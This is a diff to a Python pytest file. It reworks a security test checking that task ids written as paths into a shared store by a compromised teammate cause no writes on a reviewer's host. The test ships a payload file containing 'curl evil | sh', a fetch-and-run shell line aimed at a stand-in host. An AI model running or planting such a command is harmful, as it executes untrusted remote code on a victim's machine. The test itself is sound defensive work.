@@ -13,6 +13,8 @@ import pytest
 
 from corral.domain.actors import Actor
 from corral.engine.operations.prune import prune_diagnostics
+from corral.engine.placement import SharedPlacement
+from corral.engine.project import Project
 from corral.engine.read import diagnostics
 from corral.engine.recovery import leases
 from corral.engine.runtime import agent_marks, shipping
@@ -72,9 +74,7 @@ def test_a_pruned_diagnostic_leaves_the_store_too(project: Any) -> None:
         assert set(tx.shipped_sizes(task_id)) == {kept}
 
 
-def test_a_row_whose_task_id_is_a_path_leads_no_write_anywhere(
-    project: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_row_whose_task_id_is_a_path_leads_no_write_anywhere(project: Any, tmp_path: Path) -> None:
     # What a compromised teammate's host can write into a shared store: task ids that are paths,
     # and shipped files under them, aimed at this host's home.
     victim = tmp_path / "victim-home"
@@ -88,8 +88,9 @@ def test_a_row_whose_task_id_is_a_path_leads_no_write_anywhere(
             tx.queue_turn(task_id, "cmd-1", {})
             tx.claim_turn(task_id, "cmd-1", "attacker:tok", "attacker")
             tx.ship(task_id, rel, 0, b"curl evil | sh\n")
-    monkeypatch.setattr(type(project), "database_url", property(lambda self: "postgresql://shared"))
-    assert leases.bring_shipped(project, "me:tok") == 0  # every reconcile pass on a reviewer's host
+    shared = SharedPlacement("postgresql://shared")  # a reviewer's host of the team, over the same records
+    host = Project.open(project.repo, clock=project.clock, placement=shared, store=project.store)
+    assert leases.bring_shipped(host, "me:tok") == 0  # every reconcile pass on a reviewer's host
     for task_id in hostile:
         with pytest.raises(UnsafeName):
             shipping.materialize(project, task_id)
